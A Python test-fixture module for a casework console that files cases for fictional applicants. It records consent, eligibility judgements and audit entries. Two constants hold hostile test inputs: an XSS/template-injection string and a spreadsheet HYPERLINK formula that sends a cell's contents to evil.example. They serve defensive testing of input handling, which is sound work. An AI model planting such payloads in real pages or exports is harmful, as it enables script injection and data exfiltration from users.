"""Cases of people who do not exist, filed by the commands that the dialogue uses, for the tests of the console."""

from __future__ import annotations

import itertools
import secrets
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import policy_kb
from actions.filing import words
from actions.filing.judging import Judging
from casework.audit import Audit, AuditEntry
from casework.cases.cases import Filing
from casework.cases.judgements import Judgement
from casework.desk import Desk
from policy_kb.eligibility import Evaluator, Known
from tests.actions.persona import identity
from tests.app.conftest import FakeEngine, settings_of
from tests.casework.case_samples import PNG

from .conftest import ServedConsole

EVIL = '<script>alert("1")</script><img src=x onerror=alert(2)>\'"{{ 7*7 }}'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
MOBILE = "15400000017"
_COUNT = itertools.count(1)


@dataclass(frozen=True)
class Filed:
    """``name``, ``number`` and MOBILE are the plain values behind the case's tokens."""

    reference: str
    case: str
    person: str
    sender: str
    name: str
    number: str


@contextmanager
def served(folder: Path) -> Iterator[ServedConsole]:
    """One console for all tests of a module."""
    engine = FakeEngine()
    console = ServedConsole(settings_of(engine, f"sqlite:///{folder}/app.db"))
    yield console
    console.stop()
    engine.close()


def file(
    desk: Desk,
    county: str | None = "530102",
    kind: str = "hardship-recognition",
    sender: str | None = None,
    number: str | None = None,
    name: str = "演示甲",
    file_name: str = "照片.png",
    known: Mapping[str, Known] | None = None,
    **answers: Any,
) -> Filed:
    """A person, unless ``sender`` is one already, files; the profile learns what they said.

    With ``known`` of the applicant, the rules say what they say of it.
    """
    count = next(_COUNT)
    sender, number = sender or f"talk-{count}-{secrets.token_hex(4)}", number or identity(count)
    person, errand = desk.people.of(sender), secrets.token_hex(16)
    application = policy_kb.load().applications[kind]
    plain = {"name": ("name", name), "identity": ("identity", number), "mobile": ("mobile", MOBILE)}
    kept = {field: desk.keep(*value, errand) for field, value in plain.items()}
    given: dict[str, Any] = {**kept, **({"county": county} if county else {}), **answers}
    if "hardship_words" in given:
        given["hardship_words"] = desk.keep("text", given["hardship_words"], errand)
    if any(field.id == "proof" for field in application.fields):
        given["proof"] = desk.documents.add(errand, file_name, PNG)
    consent = desk.give_consent(person, application, words.consent(application).text, "self")
    filing = Filing(errand, person, kind, "self", given, consent, number, county, person, judged(desk, kind, known))
    receipt = desk.cases.file(filing)
    desk.remember(person, {field: (value, field in kept) for field, value in given.items() if field != "proof"})
    return Filed(receipt.reference, receipt.case, person, sender, name, number)


def judged(desk: Desk, kind: str, known: Mapping[str, Known] | None) -> Judgement | None:
    if known is None:
        return None
    knowledge = policy_kb.load()
    verdict = Evaluator(knowledge).judge_one(kind, known, date(2026, 11, 23))
    return Judging(knowledge, desk, date.today).record(verdict)


def audited(desk: Desk, subject: str) -> list[AuditEntry]:
    """The newest first."""
    return Audit(desk.engine, desk.sealed.ring).about(subject)
